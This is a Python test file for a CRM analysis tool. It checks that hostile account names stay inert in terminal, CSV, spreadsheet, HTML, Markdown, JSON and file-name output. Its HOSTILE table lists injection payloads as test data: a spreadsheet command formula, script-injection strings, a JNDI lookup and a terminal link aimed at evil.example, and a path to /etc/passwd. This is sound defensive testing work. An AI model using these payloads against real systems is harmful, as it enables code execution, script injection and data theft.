"""A name from a CRM can do nothing but be read, through whichever door it leaves."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Callable, Mapping
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest
from typer.testing import CliRunner

from crm_portfolio import Portfolio, analyse, analysis, report, samples
from crm_portfolio.archive import Entry
from crm_portfolio.archive._failed import read_mended, save_failed
from crm_portfolio.cli import app
from crm_portfolio.protocols import Change, Org, Quota
from crm_portfolio.results import Result
from crm_portfolio.schema import HUMAN, MANAGED, arrow_type
from crm_portfolio.writeback import Plan, plan

HOSTILE = {
    "a formula": "=cmd|'/C calc'!A0",
    "a plus": "+1+1",
    "a minus": "-2+3+cmd",
    "an at": "@SUM(A1)",
    "a formula behind a tab": "\t=1+1",
    "a formula behind a return": "\r=1+1",
    "a formula behind a blank": " =1+1",
    "a wide formula": "\uff1d1+1",
    "colour": "\x1b[31mRed\x1b[0m",
    "a link for a terminal": "\x1b]8;;http://evil.example\x07here\x1b]8;;\x07",
    "an eight-bit control": "\x9b31mred",
    "a script": "<script>alert(1)</script>",
    "an image": '"><img src=x onerror=alert(1)>',
    "the end of a title": "</title></table><svg/onload=alert(1)>",
    "an entity": "&lt;script&gt;",
    "right to left": "gpj.\u202eexe",
    "an isolate": "\u2066a\u2069",
    "a path": "../../etc/passwd",
    "a path of Windows": "..\\..\\C:\\CON",
    "lines": "two\nlines\r\nthree\u2028four\u0085five",
    "a link of Markdown": "[x](javascript:alert(1))",
    "a cell of Markdown": "a | b `c` **d**",
    "a template": "{{7*7}} ${jndi:ldap://evil.example/a} %s {0}",
    "a null byte": "nul\x00l",
    "a word of CSV": "NA",
}
# Those of full width begin a formula where such are typed.
FORMULA = re.compile("^[\\s\x00-\x1f]*[=+\\-@\uff1d\uff0b\uff0d\uff20]")


def controls(text: str, *, allowed: str = "\n") -> set[str]:
    unsafe = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    return {
        c for c in text if unicodedata.category(c) in unsafe and c not in allowed
    } - set("\u200c\u200d")


class _Tags(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}


class Nowhere:
    """An org that can only be asked who it is."""

    name = "salesforce"

    def org(self) -> Org:
        return Org("salesforce", "00D000000000001", True, "EUR", "Europe/Paris")

    def quota(self) -> Quota | None:
        return None

    def read(self, *_: object) -> pa.Table:
        raise AssertionError("what was pulled just now is not read again")


NAMES = tuple(HOSTILE.values())
PLAIN = tuple(f"Plain {place}" for place in range(len(NAMES)))
COUNT = len(NAMES)


def firm(names: tuple[str, ...]) -> Portfolio:
    """Accounts of these names, the first with the most revenue."""
    ids = [f"A{place:02}" for place in range(COUNT)]
    nothing = {
        field.column: pa.nulls(COUNT, arrow_type(field))
        for field in (*MANAGED["account"], *HUMAN["account"])
    }
    line = pa.table(
        {
            "line_id": ids,
            "account_id": ids,
            "booked_on": pa.array([date(2026, 1, 5)] * COUNT),
            "amount": [float(100 - place) for place in range(COUNT)],
        }
    )
    return Portfolio.from_frames(
        as_of=date(2026, 6, 30),
        currency="EUR",
        account=pa.table({"account_id": ids, "name": names, **nothing}),
        revenue_line=line,
        effort=pa.table(
            {
                "account_id": ids,
                "worked_on": pa.array([date(2026, 1, 5)] * COUNT),
                "minutes": [60.0] * COUNT,
            }
        ),
    )


def made(portfolio: Portfolio) -> tuple[list[Result], Plan]:
    results: list[Result] = [
        analysis.tiers(portfolio),
        analysis.concentration(portfolio),
    ]
    return results, plan(results, Nowhere(), held=portfolio)  # type: ignore[arg-type]


def terminal(folder: Path, *arguments: object) -> str:
    book = folder / "book"
    runner = CliRunner(env={"COLUMNS": "300", "NO_COLOR": "1"})
    command, *more = map(str, arguments)
    result = runner.invoke(
        app, [command, *(m.replace("BOOK", str(book)) for m in more)]
    )
    assert result.exit_code == 0, (result.stdout, result.stderr)
    assert controls(result.stderr) == set()
    return result.stdout if "json" in arguments else result.stdout + result.stderr


def in_the_terminal(portfolio: Portfolio, folder: Path) -> None:
    portfolio.save(folder / "book")
    asked = [("explain", f"A{place:02}", "--folder", "BOOK") for place in range(8, 14)]
    for arguments in (("analyse", "BOOK"), *asked):
        told = terminal(folder, *arguments)
        assert "A0" in told or "A1" in told
        assert controls(told) == set()


def in_a_comparison(portfolio: Portfolio, folder: Path) -> None:
    """Of two rules, by which nearly everyone moves and is told why."""
    portfolio.save(folder / "book")
    new, old = folder / "new.toml", folder / "old.toml"
    new.write_text("[tiers]\ncount = 2\n", encoding="utf-8")
    old.write_text("[tiers]\ncount = 5\n", encoding="utf-8")
    asked = ("analyse", "BOOK", "tiers", "--settings", new, "--against", old)
    told = terminal(folder, *asked)
    assert "A13: Tier B" in told
    assert controls(told) == set()
    shown = terminal(folder, *asked, "--output", "csv")
    rows = list(csv.reader(io.StringIO(shown, newline="")))
    assert {len(row) for row in rows} == {len(rows[0])}
    texts = [cell for row in rows for cell in row if not _is_number(cell)]
    assert not [cell for cell in texts if FORMULA.match(cell)]
    assert json.loads(terminal(folder, *asked, "--output", "json"))


def in_csv(portfolio: Portfolio, folder: Path) -> None:
    portfolio.save(folder / "book")
    for number, result in enumerate(made(portfolio)[0]):
        file = folder / f"{number}.csv"
        result.save(file)
        shown = terminal(folder, "analyse", "BOOK", result.name, "--output", "csv")
        for text in (file.read_bytes().decode("utf-8-sig"), shown):
            rows = list(csv.reader(io.StringIO(text, newline="")))
            assert {len(row) for row in rows} == {len(rows[0])}
            texts = [cell for row in rows for cell in row if not _is_number(cell)]
            assert not [cell for cell in texts if FORMULA.match(cell)]


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?([eE][-+]?\d+)?", cell) is not None


def in_a_workbook(portfolio: Portfolio, folder: Path) -> None:
    for number, result in enumerate(made(portfolio)[0]):
        file = folder / f"{number}.xlsx"
        result.save(file)
        for sheet in openpyxl.load_workbook(file):
            for row in sheet.iter_rows():
                assert all(cell.data_type != "f" for cell in row)
                assert all(cell.hyperlink is None for cell in row)


def in_html(portfolio: Portfolio, folder: Path) -> None:
    results, proposal = made(portfolio)
    plain_results, plain_plan = made(firm(PLAIN))
    pages = []
    for number, (result, plain) in enumerate(zip(results, plain_results, strict=True)):
        for each, name in ((result, "h"), (plain, "p")):
            each.save(folder / f"{name}{number}.html")
        pages.append([(folder / f"{n}{number}.html").read_text("utf-8") for n in "hp"])
        pages.append([r._repr_html_() for r in (result, plain)])  # type: ignore[attr-defined]
    pages.append(
        [
            proposal.to_html(names=portfolio),
            plain_plan.to_html(names=firm(PLAIN)),
        ]
    )
    some = ("tiers", "concentration", "loss_scenario")
    pages.append(
        [
            report(each, findings=analyse(each, only=some)).html
            for each in (portfolio, firm(PLAIN))
        ]
    )
    for page, other in pages:
        found, expected = _Tags(page), _Tags(other)
        assert found.tags == expected.tags
        assert found.attributes == expected.attributes
        assert controls(page, allowed="\n\t") == set()


def in_markdown(portfolio: Portfolio, _folder: Path) -> None:
    told = made(portfolio)[1].to_markdown(names=portfolio)
    plain = made(firm(PLAIN))[1].to_markdown(names=firm(PLAIN))
    assert controls(told) == set()
    assert len(told.splitlines()) == len(plain.splitlines())
    unescaped = re.sub(r"\\.", "", told)
    assert not re.search(r"[<>\[]", unescaped)
    assert unescaped.count("|") == plain.count("|")


def in_json(portfolio: Portfolio, folder: Path) -> None:
    portfolio.save(folder / "book")
    results, proposal = made(portfolio)
    assert json.loads(json.dumps([result.to_dict() for result in results]))
    shown = terminal(folder, "analyse", "BOOK", "--output", "json")
    assert json.loads(shown)
    assert controls(shown) == set()
    lines = proposal.to_bytes().splitlines()
    assert all(json.loads(line) for line in lines)
    kept = proposal.to_bytes().decode()
    assert not [name for name in NAMES if len(name) > 5 and name in kept]


def in_the_file_to_mend(_portfolio: Portfolio, folder: Path) -> None:
    """What a person typed into a field of ours is in it, and comes back as it was."""
    entries = [
        Entry(Change(f"A{n:02}", "tier", name, name), "rejected", found=name)
        for n, name in enumerate(NAMES)
    ]
    file = folder / "failed.csv"
    save_failed("0a1b", entries, file)
    rows = list(csv.reader(io.StringIO(file.read_text("utf-8"), newline="")))
    assert len(rows) == 1 + COUNT
    assert not [cell for row in rows for cell in row if FORMULA.match(cell)]
    kept = {line.record_id: line.after for line in read_mended(file)}
    assert kept["A00"] == NAMES[0]


def in_file_names(portfolio: Portfolio, folder: Path) -> None:
    portfolio.save(folder / "book")
    results, proposal = made(portfolio)
    for result in results:
        for kind in ("csv", "xlsx", "html", "parquet"):
            result.save(folder / f"{result.name}.{kind}")
    proposal.save(folder / "plan.jsonl")
    names = {path.name for path in folder.rglob("*")}
    assert all(re.fullmatch(r"[A-Za-z0-9_.-]+", name) for name in names), names
    assert {path.name for path in folder.parent.iterdir()} == {folder.name}


def in_an_explanation(portfolio: Portfolio, _folder: Path) -> None:
    for result in made(portfolio)[0]:
        for lang in ("en", "fr"):
            for place in range(COUNT):
                told = result.explain(f"A{place:02}", lang=lang)  # type: ignore[arg-type]
                assert controls(told) == set()
    proposal = made(portfolio)[1]
    assert controls(str(proposal)) == controls(repr(proposal)) == set()


DOORS: Mapping[str, Callable[[Portfolio, Path], None]] = {
    "terminal": in_the_terminal,
    "comparison": in_a_comparison,
    "CSV": in_csv,
    "workbook": in_a_workbook,
    "HTML": in_html,
    "Markdown": in_markdown,
    "JSON": in_json,
    "file to mend": in_the_file_to_mend,
    "file names": in_file_names,
    "explanation": in_an_explanation,
}


@pytest.mark.parametrize("door", DOORS)
def test_a_hostile_name_is_only_read(door: str, tmp_path: Path) -> None:
    folder = tmp_path / "desk"
    folder.mkdir()
    DOORS[door](firm(NAMES), folder)


def test_the_names_of_the_sample_book_are_among_the_hostile_kinds() -> None:
    book = samples.book(accounts=40, opportunities=250)
    assert len(book.truths["hostile"]) >= 10
